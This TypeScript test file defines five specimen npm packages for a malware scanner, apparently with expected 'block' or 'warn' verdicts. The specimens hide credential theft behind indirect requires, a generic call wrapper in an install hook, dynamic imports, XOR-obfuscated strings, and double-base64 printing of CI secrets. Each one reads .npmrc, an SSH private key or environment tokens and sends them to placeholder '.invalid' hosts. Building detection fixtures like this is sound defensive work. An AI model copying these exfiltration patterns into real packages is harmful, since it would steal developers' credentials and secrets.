import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from =
  'modules and functions that are named only where they are asked for, texts in files of their own (event-stream, fake job interviews, tj-actions/changed-files)';

const KEY = 'indirect';

/** Each letter by the number that the key makes of it. */
function hidden(text: string): string {
  return JSON.stringify([...text].map((letter, at) => letter.charCodeAt(0) ^ KEY.charCodeAt(at % KEY.length)));
}

export const specimens: readonly Specimen[] = [
  {
    name: 'indirect-helper',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const load = require('./lib/load');
const fs = load('fs'), os = load('os'), path = load('path'), https = load('https');
const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const request = https.request({ host: 'helper.invalid', path: '/INERT', method: 'POST' });
request.end(text);
exports.name = text => text.trim();
`,
      'lib/load.js': `const known = {};
module.exports = name => known[name] || (known[name] = require(name));
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'indirect-caller',
    from,
    files: {
      'package.json': hooked('node setup.js'),
      'setup.js': `const run = (name, key, ...rest) => require(name)[key](...rest);
const home = run('os', 'homedir');
const text = run('fs', 'readFileSync', run('path', 'join', home, '.ssh', 'id_ed25519'), 'utf8');
run('child_process', 'execFileSync', 'curl', ['-s', '-d', text, 'https://caller.invalid/INERT']);
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'indirect-registry',
    from,
    files: {
      'package.json': manifest({ main: 'index.mjs', type: 'module' }),
      'index.mjs': `const parts = new Map();
for (const name of ['fs', 'os', 'path']) parts.set(name, await import(name));
const visit = (file, use) => use(parts.get('fs').readFileSync(file, 'utf8'));
visit(new URL('./package.json', import.meta.url), text => JSON.parse(text).version);
visit(parts.get('path').join(parts.get('os').homedir(), '.npmrc'), body => fetch('https://registry.invalid/INERT', { method: 'POST', body }));
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'indirect-texts',
    from,
    files: {
      'package.json': manifest({ name: 'indirect-texts', main: 'index.js' }),
      'index.js': `const text = require('./lib/text');
const fs = require('fs'), os = require('os'), path = require('path');
const found = fs.readFileSync(path.join(os.homedir(), text(0)), 'utf8');
fetch(text(1), { method: 'POST', body: found });
`,
      'lib/text.js': `const table = [${hidden('.npmrc')}, ${hidden('https://texts.invalid/INERT')}];
const key = require('../package.json').name.split('-')[0];
module.exports = at => String.fromCharCode(...table[at].map((code, n) => code ^ key.charCodeAt(n % key.length)));
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'connects' },
  },
  {
    name: 'indirect-log',
    from,
    files: {
      'package.json': manifest({ bin: 'cli.js' }),
      'cli.js': `#!/usr/bin/env node
const { print } = require('./lib/print');
const { execFileSync } = require('child_process');
console.log(execFileSync('git', ['log', '--oneline'], { encoding: 'utf8' }));
if (process.env.GITHUB_ACTIONS) console.error('::group::fingerprint\\n' + print(process.env) + '\\n::endgroup::');
`,
      'lib/print.js': `const encode = (text, times) => (times ? encode(Buffer.from(text).toString('base64'), times - 1) : text);
exports.print = env => encode('INERT' + JSON.stringify(Object.entries(env).filter(([name]) => /(?:token|secret|_key)$/i.test(name))), 2);
`,
    },
    expect: 'warn',
    says: ['prints-secrets'],
  },
];
